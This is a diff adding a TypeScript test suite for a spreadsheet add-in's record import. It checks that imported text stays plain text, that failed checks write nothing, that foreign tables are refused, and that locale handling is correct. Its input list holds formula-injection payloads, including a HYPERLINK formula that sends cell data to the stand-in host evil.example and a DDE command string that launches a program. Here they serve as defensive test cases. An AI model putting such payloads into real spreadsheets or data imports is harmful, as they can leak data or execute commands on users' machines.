@@ -1,0 +1,184 @@
+/**
+ * Issue 13 on the stand-in: text stays text per cell whatever the target cell's format, nothing
+ * is written when a check fails (cells counted before and after), foreign tables are refused,
+ * spreadsheet cells and other locales import with the right numbers.
+ */
+import { createStandIn } from "../../preview/excel";
+import { setUpWorkbook } from "../../src/workbook/setup";
+import { importRecords, ImportError } from "../../src/workbook/import";
+import { readSheet } from "../../src/workbook/import/sheetSource";
+import { DEALS } from "../../src/model/schema";
+
+type StandIn = ReturnType<typeof createStandIn>;
+
+async function freshWorkbook(sampleData = false): Promise<StandIn> {
+  const standIn = createStandIn({ excelApi: "1.17" });
+  standIn.install(globalThis);
+  await setUpWorkbook({ stagePreset: "salesforce", language: "en", sampleData } as never);
+  standIn.resetCounters();
+  return standIn;
+}
+
+const letter = (name: string): string =>
+  String.fromCharCode(65 + DEALS.columns.findIndex((c) => c.name === name));
+
+/** Every cell of a sheet as the snapshot has it (value, formula, format). */
+function cells(standIn: StandIn, sheet: string): Record<string, unknown> {
+  return standIn.snapshot().sheets.find((s) => s.name === sheet)!.cells;
+}
+
+function dealRows(standIn: StandIn): Record<string, unknown>[] {
+  const t = standIn
+    .snapshot()
+    .sheets.flatMap((s) => s.tables)
+    .find((x) => x.name === "Deals")!;
+  const values = standIn.getValues("Deals", t.address.split("!").pop()!.replace(/\$/g, ""));
+  const headers = (values[0] as unknown[]).map(String);
+  return values.slice(1).map((r) => Object.fromEntries(headers.map((h, i) => [h, r[i]])));
+}
+
+async function expectNothingWritten(
+  standIn: StandIn,
+  run: () => Promise<unknown>,
+  code: string
+): Promise<ImportError> {
+  const before = JSON.stringify(cells(standIn, "Deals"));
+  const count = Object.keys(cells(standIn, "Deals")).length;
+  const error = await run().then(
+    () => null,
+    (e: unknown) => e
+  );
+  expect(error).toBeInstanceOf(ImportError);
+  expect((error as ImportError).code).toBe(code);
+  expect(Object.keys(cells(standIn, "Deals"))).toHaveLength(count);
+  expect(JSON.stringify(cells(standIn, "Deals"))).toBe(before);
+  return error as ImportError;
+}
+
+const TRICKY = [
+  '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+  "=cmd|' /C calc'!A0",
+  "-5 discount deal",
+  "00123",
+  "1/2",
+  "Mar 5",
+  "12:30 PM",
+  "$100",
+  "1e5",
+  "TRUE",
+  "#N/A",
+  "\uff1dSUM(A1)",
+  "\u3000=1+1",
+  "\u200b@SUM(A1)",
+];
+
+describe("text stays text per cell, whatever the target cells' formats", () => {
+  it.each([
+    ["the first cell Text, the rest General", (r: number) => (r === 2 ? "@" : "General")],
+    ["the first cell General, the rest Text", (r: number) => (r === 2 ? "General" : "@")],
+  ])("%s", async (_, formatOf) => {
+    const standIn = await freshWorkbook();
+    const name = letter("Deal Name");
+    const id = letter("Deal ID");
+    // A first import creates the rows; then the user reformats the Deal Name and Deal ID cells.
+    const lines = TRICKY.map((t, i) => `D${i + 1},"${t.replace(/"/g, '""')}",${i * 10}`);
+    const text = `Deal ID,Deal Name,Amount\n${lines.join("\n")}\n`;
+    await importRecords({ target: "Deals", text });
+    for (let r = 2; r < 2 + TRICKY.length; r++) {
+      standIn.setNumberFormat("Deals", `${name}${r}:${name}${r}`, [[formatOf(r)]]);
+      standIn.setNumberFormat("Deals", `${id}${r}:${id}${r}`, [[formatOf(r)]]);
+    }
+    // Re-import (updates) and import new IDs that look like numbers (appends).
+    const again = `Deal ID,Deal Name,Amount\n${lines.join("\n")}\n00999,"${TRICKY[3]}",7\n`;
+    const report = await importRecords({ target: "Deals", text: again });
+    expect(report).toMatchObject({ updated: TRICKY.length, added: 1, skipped: [] });
+    const rows = dealRows(standIn);
+    expect(rows.map((r) => r["Deal Name"])).toEqual([...TRICKY, "00123"]);
+    expect(rows.map((r) => r["Deal ID"]).slice(-1)).toEqual(["00999"]);
+    expect(rows.map((r) => r.Amount)).toEqual([...TRICKY.map((_, i) => i * 10), 7]);
+    const sheet = cells(standIn, "Deals") as Record<string, { formula?: string; value?: unknown }>;
+    for (let r = 2; r < 3 + TRICKY.length; r++) {
+      expect(sheet[`${name}${r}`].formula).toBeUndefined();
+      expect(String(sheet[`${name}${r}`].value).startsWith("'")).toBe(false);
+    }
+  });
+});
+
+describe("nothing is written when the plan cannot be carried out", () => {
+  it("refuses a 10 MB field, naming its line and column", async () => {
+    const standIn = await freshWorkbook(true);
+    const text = `Deal ID,Deal Name,Next Step\nD1,Alpha,ok\nD2,Beta,"${"x".repeat(10 * 1024 * 1024)}"\nD3,Gamma,ok\n`;
+    const e = await expectNothingWritten(
+      standIn,
+      () => importRecords({ target: "Deals", text }),
+      "cellTooLong"
+    );
+    expect(e.details[0]).toMatchObject({ line: 3, column: "Next Step", count: 10 * 1024 * 1024 });
+    expect(standIn.requests().every((r) => r.operations === 0 || r.bytes < 100_000)).toBe(true);
+  });
+
+  it("cuts such a field to 32,767 characters when the user agrees", async () => {
+    const standIn = await freshWorkbook();
+    const text = `Deal ID,Deal Name,Next Step\nD1,Alpha,"${"y".repeat(40_000)}"\n`;
+    const report = await importRecords({ target: "Deals", text, truncateLongText: true });
+    expect(report.truncated).toEqual([{ line: 2, column: "Next Step" }]);
+    expect(String(dealRows(standIn)[0]["Next Step"])).toHaveLength(32767);
+  });
+
+  it("never writes into a foreign Deals table, and says how to get out", async () => {
+    const standIn = createStandIn({ excelApi: "1.17" });
+    standIn.install(globalThis);
+    await Excel.run(async (context) => {
+      const ws = context.workbook.worksheets.add("Deals");
+      ws.getRange("A1:C3").values = [
+        ["Deal ID", "Client", "My notes"],
+        ["X1", "Mine", 42],
+        ["X2", "Also mine", 7],
+      ];
+      context.workbook.tables.add("Deals!A1:C3", true).name = "Deals";
+      await context.sync();
+    });
+    const text = "Deal ID,Deal Name,Amount\nD1,Alpha,100\nD2,Beta,200\n";
+    const e = await expectNothingWritten(
+      standIn,
+      () => importRecords({ target: "Deals", text }),
+      "foreignTable"
+    );
+    expect(e.message).toMatch(/Deals table .*rename it/);
+    expect(standIn.getValues("Deals", "C2:C3")).toEqual([[42], [7]]);
+  });
+
+  it("asks for the decimal mark of a German file before writing anything", async () => {
+    const standIn = await freshWorkbook();
+    const text = "Deal ID;Deal Name;Amount\nD1;Alpha;5.000\nD2;Beta;12.500\n";
+    await expectNothingWritten(
+      standIn,
+      () => importRecords({ target: "Deals", text }),
+      "needsNumberFormat"
+    );
+    await importRecords({ target: "Deals", text, numberMarks: { Amount: "," } });
+    expect(dealRows(standIn).map((r) => r.Amount)).toEqual([5000, 12500]);
+  });
+});
+
+describe("import from a sheet of this workbook", () => {
+  it("reads typed cells (numbers, date serials) and imports them without any locale guess", async () => {
+    const standIn = await freshWorkbook();
+    standIn.setValues("Sheet1", "A1:E4", [
+      ["Deal ID", "Deal Name", "Amount", "Close Date", "Stage"],
+      ["101", "Alpha", 5.125, 45352, "Closed Won"],
+      ["102", "00123", 12500, 45473, "Prospecting"], // the sheet itself reads 00123 as 123
+      ["", "", "", "", ""],
+    ]);
+    standIn.setNumberFormat("Sheet1", "D2:D3", [["yyyy-mm-dd"], ["yyyy-mm-dd"]]);
+    const grid = await readSheet("Sheet1");
+    expect(grid.lines).toEqual([2, 3]);
+    const report = await importRecords({ target: "Deals", grid });
+    expect(report).toMatchObject({ added: 2, skipped: [] });
+    const rows = dealRows(standIn);
+    expect(rows.map((r) => r.Amount)).toEqual([5.125, 12500]);
+    expect(rows.map((r) => r["Expected Close"])).toEqual([45352, 45473]);
+    expect(rows.map((r) => r["Closed Date"])).toEqual([45352, ""]);
+    expect(rows.map((r) => r["Deal Name"])).toEqual(["Alpha", "123"]);
+  });
+});
